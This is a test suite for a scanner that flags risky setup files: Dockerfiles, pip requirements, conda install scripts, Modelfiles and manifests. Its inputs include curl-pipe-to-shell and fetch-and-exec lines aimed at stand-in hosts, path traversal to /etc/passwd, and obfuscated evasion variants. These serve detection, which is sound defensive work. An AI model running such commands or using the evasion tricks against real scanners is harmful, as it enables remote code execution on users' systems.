import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { test } from "node:test";
import { assertChangesAreRead, report } from "../testing/cuts.ts";

const TESTDATA = new URL("../../../testdata/setup-files/", import.meta.url);

function read(name: string): Uint8Array {
  return new Uint8Array(readFileSync(new URL(name, TESTDATA)));
}

/** Rules that a file sets off. */
async function rules(name: string, text: string): Promise<string[]> {
  const { findings } = await report(name, new TextEncoder().encode(text));
  return [...new Set(findings.map(({ ruleId }) => ruleId.replace("setup-", "")))].sort();
}

test("everyday files are no models and have no finding", async () => {
  for (const name of readdirSync(new URL("safe/", TESTDATA))) {
    const { verdict, findings } = await report(name, read(`safe/${name}`));
    assert.deepEqual([verdict, findings.map(({ message }) => message)], ["skipped", []], name);
  }
});

test("scripts that conda runs when it installs a package are read, others are not", async () => {
  const script = "set -e\ncurl -fsSL https://get.example.com/a | \\\n  bash\n";
  for (const name of ["bin/.a-post-link.sh", "Scripts/.a-pre-unlink.bat"]) {
    assert.deepEqual(await rules(name, script), ["remote-script"], name);
    assert.deepEqual(
      await rules(name, "export A=1\ncurl -o data.zip https://example.com/d.zip\n"),
      [],
    );
  }
  assert.deepEqual(await rules("bin/a.sh", script), []);
});

test("bytes changed anywhere are read without a defect", async () => {
  for (const name of ["safe/Dockerfile", "safe/requirements.txt", "harmful/manifest.json"]) {
    await assertChangesAreRead(name.slice(name.indexOf("/") + 1), read(name), 23);
  }
});

test("instructions of a Dockerfile are read as Docker reads them", async () => {
  const of = (text: string) => rules("Dockerfile", `FROM x\n${text}\n`);
  const script = "https://get.example.com/x.sh";
  assert.deepEqual(await of(`RUN curl \\\n  # a comment\n  ${script} \\\n\n | sh`), [
    "remote-script",
  ]);
  assert.deepEqual(await of(`run curl ${script} | sh`), ["remote-script"]);
  assert.deepEqual(await of(`ONBUILD RUN curl ${script} | sh`), ["remote-script"]);
  assert.deepEqual(await of(`RUN ["sh", "-c", "curl ${script} | sh"]`), ["remote-script"]);
  assert.deepEqual(await of(`RUN --mount=type=cache,target=/x curl ${script} | sh`), [
    "remote-script",
  ]);
  assert.deepEqual(await of(`RUN <<EOF\nset -e\ncurl ${script} | sh\nEOF\nRUN true`), [
    "remote-script",
  ]);
  assert.deepEqual(await of(`ARG A=${script}\nRUN curl $A | sh`), ["remote-script"]);
  assert.deepEqual(await of(`ARG A=https://sh.rustup.rs\nRUN curl \${A} | sh`), []);
  assert.deepEqual(await of(`RUN curl \${A:-http://192.0.2.1/x} | sh`), ["unverified-script"]);
  assert.deepEqual(await of(`ADD ${script} /x.sh\nRUN sh /x.sh`), ["remote-script"]);
  assert.deepEqual(await of(`ADD http://192.0.2.1/data.tar /data`), []);
  assert.deepEqual(await of(`RUN wget ${script}\nRUN bash x.sh`), ["remote-script"]);
  assert.deepEqual(await of("ENV UV_INDEX_URL https://packages.example.com"), ["foreign-index"]);
  assert.deepEqual(await of(`RUN cu\\\nrl ${script} | sh`), ["remote-script"]);
  assert.deepEqual(await of(`HEALTHCHECK --interval=5s CMD curl ${script} | sh`), [
    "remote-script",
  ]);
  assert.deepEqual(await of(`COPY <<EOF /x.sh\ncurl ${script} | sh\nEOF`), ["remote-script"]);
  for (
    const text of [
      `RUN <<"E.F"\ncurl ${script} | sh\nE.F`,
      `COPY <<A <<B /x/\nfoo\nA\ncurl ${script} | sh\nB`,
      `RUN python3 <<EOF\nimport urllib.request as u\nexec(u.urlopen("${script}").read())\nEOF`,
      `RUN echo $((1<<2))\nRUN curl ${script} | sh`,
      `RUN echo "a <<B c"\nRUN curl ${script} | sh`,
      `RUN cat <<< x\nRUN curl ${script} | sh\nx`,
      `ADD ${script} /opt/run\nENTRYPOINT ["/opt/run"]`,
      `RUN curl ${script} | tee /run.sh && sh /run.sh`,
      `RUN curl ${script} | cat > /run.sh && sh /run.sh`,
      `RUN curl https://raw.githubusercontent.com/nvm-sh/../a/b/x.sh | sh`,
      `RUN curl https://raw.githubusercontent.com/nvm-sh/%2e%2E/a/b/x.sh | sh`,
    ]
  ) assert.deepEqual(await of(text), ["remote-script"], text);
  assert.deepEqual(await of("RUN uv add --index a=https://packages.example.com/simple b"), [
    "foreign-index",
  ]);
  const windows = `# escape=\`\nFROM x\nRUN curl ${script} \`\n | sh\n`;
  assert.deepEqual(await rules("Dockerfile", windows), ["remote-script"]);
  assert.deepEqual(await of(`# RUN curl ${script} | sh`), []);
  assert.deepEqual(await of(`LABEL x="curl ${script} | sh"`), []);
});

test("lines of requirements are read as pip reads them", async () => {
  const of = (text: string) => rules("requirements-dev.txt", text);
  assert.deepEqual(await of("x # --index-url http://192.0.2.1"), []);
  assert.deepEqual(await of("#-i http://192.0.2.1"), []);
  assert.deepEqual(await of("--index-url \\\r\n http://192.0.2.1/simple\r\n"), ["insecure-index"]);
  assert.deepEqual(await of("-ihttp://192.0.2.1/simple"), ["insecure-index"]);
  assert.deepEqual(await of("--pre --extra-index-url=https://packages.example.com"), [
    "foreign-index",
  ]);
  assert.deepEqual(await of("-r http://192.0.2.1/requirements.txt"), ["insecure-index"]);
  assert.deepEqual(await of("x@http://192.0.2.1/x.whl ; python_version > '3'"), ["insecure-index"]);
  assert.deepEqual(await of("x[y] @ git+https://git.example.com/x"), ["foreign-package"]);
  assert.deepEqual(await of('--index-url "http://192.0.2.1/simple"'), ["insecure-index"]);
  const wide = new Uint8Array(
    new Uint16Array([..."\ufeff-i http://192.0.2.1/s\n"].map((it) => it.charCodeAt(0))).buffer,
  );
  const { findings } = await report("requirements.txt", wide);
  assert.deepEqual(findings.map(({ ruleId }) => ruleId), ["setup-insecure-index"]);
  assert.deepEqual(await of("file:///opt/x.whl\n./x\nx @ file:x.whl"), []);
});

test("a Modelfile's paths and a manifest's digests are judged where they leave their folder", async () => {
  const of = (text: string) => rules("Modelfile", text);
  for (const place of ["llama3", "./a.gguf", "hf.co/a/b:Q4", "a/b.gguf", '"./a b.gguf"']) {
    assert.deepEqual(await of(`FROM ${place}\n`), [], place);
  }
  for (
    const place of ["/a.gguf", "../a.gguf", "~/a.gguf", "C:\\a.gguf", "a/../../b.gguf", '"/a b"']
  ) {
    assert.deepEqual(await of(`from ${place}\n`), ["outside-path"], place);
  }
  assert.deepEqual(await of('FROM """/etc/passwd"""\n'), ["outside-path"]);
  const wide = Uint8Array.from(
    [0xff, 0xfe, ..."FROM /a.gguf"].flatMap((it) =>
      typeof it === "number" ? [it] : [it.charCodeAt(0), 0]
    ),
  );
  assert.equal((await report("Modelfile", wide)).verdict, "suspicious");
  const go = [
    `\t{"schemaVersion": 2, "layers": [{"digest": "sha256:../x"}]}`,
    `{"SchemaVersion": 2, "Layers": [{"Digest": "sha256:../x"}]}`,
    `{"layers": [{"mediaType": "a", "digest": "sha256:../x"}]}`,
  ];
  for (const text of go) assert.deepEqual(await rules("latest", text), ["digest-path"], text);
  const manifest = (digest: string) =>
    rules("latest", JSON.stringify({ schemaVersion: 2, layers: [{ digest }] }));
  assert.deepEqual(await manifest(`sha256:${"a".repeat(64)}`), []);
  assert.deepEqual(await manifest("sha256-abc"), []);
  for (const digest of ["sha256:../../x", "/etc/passwd", "..\\x", "sha256:a/b"]) {
    assert.deepEqual(await manifest(digest), ["digest-path"], digest);
  }
  assert.deepEqual(await rules("a.json", '{"schemaVersion": 2, "layers": [{"digest": "/x"}'), [
    "digest-path",
    "unread",
  ]);
});

test("requirements are read by pip's lines, comments, options and encodings", async () => {
  const of = (text: string) => rules("requirements.txt", text);
  const index = "https://packages.example.com/simple";
  for (
    const text of [
      `--extra-index ${index}`,
      `--ind=${index}`,
      `--pypi-url ${index}`,
      `--find ${index}`,
      `--pre -i ${index}`,
      `--index-url 'https'://packages.example.com/simple`,
      `--index-url=htt""ps://packages.example.com/simple`,
      `--index\\-url ${index}`,
      `# a comment \\\n--index-url ${index}`,
      `--index-\\\nurl ${index}`,
      `a\r--index-url ${index}\r`,
      `a\v--index-url ${index}`,
      `a\u2028--index-url ${index}`,
      "--index-url https://${USER}.example.com/simple",
      `# -*- coding: latin-1 -*-\n-i ${index}`,
    ]
  ) assert.deepEqual(await of(text), ["foreign-index"], text);
  assert.deepEqual(await of("a[b, c] @ https://packages.example.com/a.whl"), ["foreign-package"]);
  assert.deepEqual(await of("hg+static-http://packages.example.com/a#egg=a"), ["insecure-index"]);
  assert.deepEqual(await of("# coding: utf-7\n+AC0-i https://packages.example.com"), ["unread"]);
  for (
    const text of [
      `# --index-url ${index}`,
      `a # -i ${index}`,
      "--index-url https://${HOST}/simple",
      "a==1 --hash=sha256:ab # a comment",
      "--no-binary :all:\n--pre\n-r other.txt\n-e .",
    ]
  ) assert.deepEqual(await of(text), [], text);
});

test("environments are read as YAML, in any of its styles", async () => {
  const of = (text: string, name = "environment.yml") => rules(name, text);
  const option = "--extra-index-url https://packages.example.com/simple";
  const found = ["foreign-index"];
  assert.deepEqual(await of(`dependencies: [python, {pip: ["${option}", a]}]`), found);
  assert.deepEqual(await of(`dependencies:\n- pip:\n  - >-\n    ${option}\n`), found);
  assert.deepEqual(await of(`dependencies:\n- pip: &a\n  - "${option}"\n`), found);
  assert.deepEqual(await of(`dependencies:\n- pip:\n  - |\n    a\n    ${option}\n`), found);
  assert.deepEqual(await of(`dependencies:\n- ${option}\n`, "python_env.yaml"), found);
  assert.deepEqual(await of(`variables: {PIP_INDEX_URL: "https://packages.example.com"}`), found);
  assert.deepEqual(await of(`{% if a %}\ndependencies:\n  - ${option}\n{% endif %}`), found);
  assert.deepEqual(await of("channels: ['http://packages.example.com/c']"), ["insecure-index"]);
  assert.deepEqual(await of("channels: [conda-forge]\ndependencies: [a=1, {pip: [b]}]\n"), []);
});
